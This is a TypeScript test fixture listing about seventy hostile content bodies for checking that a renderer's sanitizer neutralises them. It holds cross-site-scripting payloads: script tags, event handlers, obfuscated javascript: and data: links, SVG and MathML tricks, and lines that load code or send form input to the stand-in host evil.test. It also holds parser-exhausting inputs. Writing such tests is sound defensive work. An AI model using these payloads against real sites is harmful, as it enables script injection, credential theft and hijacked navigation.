/* For tests: bodies that somebody who got hold of the content service might write. Whatever of them runs calls `hit()`. */

export interface HostileBody {
  readonly name: string;
  readonly body: string;
}

const repeated = (text: string, length: number) => text.repeat(Math.floor(length / text.length));
/** as long as a body may be, nearly */
const LONG = 59_000;

/** Every one of them must come out inert. */
export const HOSTILE_BODIES: readonly HostileBody[] = [
  { name: 'a script', body: '<script>hit()</script>' },
  { name: 'a script in capitals with blanks', body: '<SCRIPT \n>hit()</SCRIPT\t>' },
  { name: 'a script from elsewhere', body: '<script src="https://evil.test/x.js"></script>' },
  { name: 'a script inside a word', body: 'text <scr<script>ipt>hit()</scr</script>ipt>' },
  { name: 'a script that is not closed', body: '<script>hit()' },
  {
    name: 'a module and an import map',
    body: '<script type="importmap">{"imports":{"react":"https://evil.test"}}</script><script type="module">hit()</script>',
  },
  {
    name: 'the end of a script in code',
    body: '`</script><script>hit()</script>`\n\n```html\n</script><script>hit()</script>\n```',
  },
  {
    name: 'the end of the page’s data',
    body: '</script></div></body></html><script>hit()</script>',
  },
  { name: 'a picture that fails', body: '<img src=x onerror=hit()>' },
  {
    name: 'a picture of ours with a handler',
    body: '<img src="/media/beach-1/640.webp" onload="hit()" onerror=\'hit()\'>',
  },
  { name: 'a handler behind a slash', body: '<img/src=x/onerror=hit()>' },
  { name: 'a handler behind a new line', body: '<img src=x\nonerror\n=\nhit()>' },
  { name: 'a handler with a quote too many', body: '<img src="x" alt="" " onerror=hit() ">' },
  { name: 'an SVG with onload', body: '<svg onload=hit()><circle r=1></svg>' },
  {
    name: 'an SVG with a script',
    body: '<svg><script>hit()</script><foreignObject><body onload=hit()></foreignObject></svg>',
  },
  {
    name: 'an SVG that animates a link',
    body: '<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>',
  },
  {
    name: 'an SVG that uses another',
    body: '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"/></svg>',
  },
  {
    name: 'MathML',
    body: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  },
  {
    name: 'MathML with a link',
    body: '<math href="javascript:hit()"><mi xlink:href="javascript:hit()">x</mi></math>',
  },
  { name: 'a link that runs', body: '[x](javascript:hit())' },
  { name: 'a link that runs, in capitals', body: '<a href="JaVaScRiPt:hit()">x</a>' },
  {
    name: 'a link that runs, with entities',
    body: '<a href="&#106;&#97;vascript&colon;hit&lpar;&rpar;">x</a>',
  },
  {
    name: 'a link that runs, with long entities',
    body: '<a href="&#0000106avascript&#x3A;hit()">x</a>',
  },
  { name: 'a link that runs, behind blanks', body: '<a href=" \t\n javascript:hit()">x</a>' },
  {
    name: 'a link that runs, with a tab in it',
    body: '<a href="java\tscript:hit()">x</a> [y](java&Tab;script:hit())',
  },
  {
    name: 'a link that runs, with a new line in it',
    body: '<a href="java&NewLine;script:hit()">x</a>',
  },
  {
    name: 'a link that runs, behind a control character',
    body: '<a href="\u0001javascript:hit()">x</a>',
  },
  { name: 'a link by reference that runs', body: '[x][1]\n\n[1]: javascript:hit()' },
  { name: 'an address in angle brackets that runs', body: '<javascript:hit()>' },
  {
    name: 'a link to data',
    body: '<a href="data:text/html,<script>hit()</script>">x</a> [y](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  },
  { name: 'a link to VBScript', body: '[x](vbscript:hit())' },
  {
    name: 'a link to a file and a blob',
    body: '[x](file:///etc/passwd) [y](blob:https://wayfare.test/x)',
  },
  { name: 'a link without a scheme', body: '[x](//evil.test/) <a href="//evil.test">y</a>' },
  {
    name: 'a link with backslashes',
    body: '<a href="/\\evil.test">x</a> <a href="\\\\evil.test">y</a> [z](/\\evil.test)',
  },
  {
    name: 'a link with a tab between its slashes',
    body: '<a href="/\t/evil.test">x</a> <a href="/&Tab;/evil.test">y</a>',
  },
  {
    name: 'a link that leaves quietly',
    body: '<a href="https://evil.test" target="_blank" rel="opener" ping="https://evil.test/p" download>x</a>',
  },
  { name: 'a link whose title ends the tag', body: '[x](/trains "\'><img src=x onerror=hit()>")' },
  {
    name: 'a picture whose text ends the tag',
    body: '![\'"><img src=x onerror=hit()>](/media/beach-1)',
  },
  {
    name: 'a picture from elsewhere',
    body: '![x](https://evil.test/pixel.png) <img src="//evil.test/p.png" srcset="https://evil.test/p2.png 2x">',
  },
  { name: 'a picture of data', body: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KCk+)' },
  {
    name: 'a picture above our folder',
    body: '<img src="/media/../api/session/logout"> <img src="/media/%2e%2e/api"> ![x](/media/x/../../api)',
  },
  { name: 'a frame', body: '<iframe src="javascript:hit()"></iframe>' },
  {
    name: 'a frame with its own document',
    body: '<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>',
  },
  {
    name: 'an object and an embed',
    body: '<object data="javascript:hit()"><param name=x></object><embed src="javascript:hit()"><applet code=x>',
  },
  {
    name: 'a style',
    body: '<style>@import "https://evil.test/x.css"; body { display: none }</style>',
  },
  {
    name: 'a style attribute',
    body: '<p style="position:fixed;inset:0;background:url(https://evil.test/x)">over everything</p>',
  },
  {
    name: 'a class, an id and a slot of the page',
    body: '<p class="hidden" id="main" slot="x" part="y" is="z" data-testid="q">x</p><h2 id="main">Main</h2>',
  },
  {
    name: 'a form',
    body: '<form action="https://evil.test"><input name=password autofocus onfocus=hit()><button formaction="javascript:hit()">Log in</button></form>',
  },
  { name: 'a base address', body: '<base href="https://evil.test/">[x](/trains)' },
  {
    name: 'a refresh',
    body: '<meta http-equiv="refresh" content="0;url=https://evil.test"><link rel=stylesheet href="https://evil.test/x.css">',
  },
  {
    name: 'a body and a head',
    body: '<html onclick=hit()><head><title>x</title></head><body onload=hit() background="https://evil.test">x</body></html>',
  },
  {
    name: 'things that open by themselves',
    body: '<details open ontoggle=hit()><summary>x</summary></details><dialog open>x</dialog><p popover autofocus tabindex=0 onfocus=hit()>x</p>',
  },
  {
    name: 'things that play',
    body: '<video autoplay onloadstart=hit()><source onerror=hit() src=x></video><audio src=x onerror=hit()></audio><marquee onstart=hit()>x</marquee>',
  },
  {
    name: 'a template',
    body: '<template><script>hit()</script><img src=x onerror=hit()></template><template shadowrootmode=open><style>*{}</style></template>',
  },
  {
    name: 'what counts as text elsewhere',
    body: '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript><xmp><img src=x onerror=hit()></xmp><plaintext><img src=x onerror=hit()>',
  },
  {
    name: 'a text area and a title',
    body: '<textarea><script>hit()</script></textarea><title><img src=x onerror=hit()></title><select><option><img src=x onerror=hit()></select>',
  },
  {
    name: 'comments that end early',
    body: '<!--><img src=x onerror=hit()>--> <!--!><img src=x onerror=hit()> <!-- --!><img src=x onerror=hit()> <![CDATA[<img src=x onerror=hit()>]]> <?xml <img src=x onerror=hit()>?>',
  },
  {
    name: 'tags broken into each other',
    body: '<<img src=x onerror=hit()>< img src=x onerror=hit()><p <img src=x onerror=hit()> <a href="<img src=x onerror=hit()>">',
  },
  {
    name: 'a table that lets things out',
    body: '<table><tr><td><p><table><img src=x onerror=hit()><a href=javascript:hit()>x</table></td></tr>',
  },
  {
    name: 'an attribute with backticks',
    body: '<img src=`x`onerror=hit()> <p title=`><script>hit()</script>`>',
  },
  {
    name: 'separators of lines that are none',
    body: 'a\u2028b\u2029<img\u2028src=x\u2029onerror=hit()> <a href="java\u2028script:hit()">x</a>',
  },
  {
    name: 'zeros',
    body: '<scr\u0000ipt>hit()</scr\u0000ipt><img src="x\u0000" onerror="hit()"><a href="java\u0000script:hit()">x</a>',
  },
  { name: 'text that runs backwards', body: 'refund \u202Etxt.exe\u202C [x](/trains\u202E)' },
  {
    name: 'what was escaped before',
    body: '&lt;script&gt;hit()&lt;/script&gt; &amp;lt;img src=x onerror=hit()&amp;gt;',
  },
  { name: 'surrogates that are alone', body: '\ud800<img src=x onerror=hit()>\udc00' },
  {
    name: 'a namespace',
    body: '<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script><custom-element onclick=hit()>x</custom-element>',
  },
  { name: 'quotes in quotes without end', body: repeated('>', LONG) },
  {
    name: 'lists in lists without end',
    body: Array.from({ length: 240 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  },
  { name: 'tags in tags without end', body: repeated('<div><b><p>', LONG) },
  { name: 'emphasis without end', body: repeated('_a', LONG) },
  { name: 'links without end', body: repeated('[x](', LONG) },
  { name: 'brackets without end', body: repeated('![', LONG) },
  { name: 'handlers without end', body: `<img src=x ${repeated('onerror=hit() ', LONG)}>` },
  { name: 'entities without end', body: repeated('&#', LONG) },
  { name: 'headings without end', body: repeated('# x\n', LONG / 4) },
];
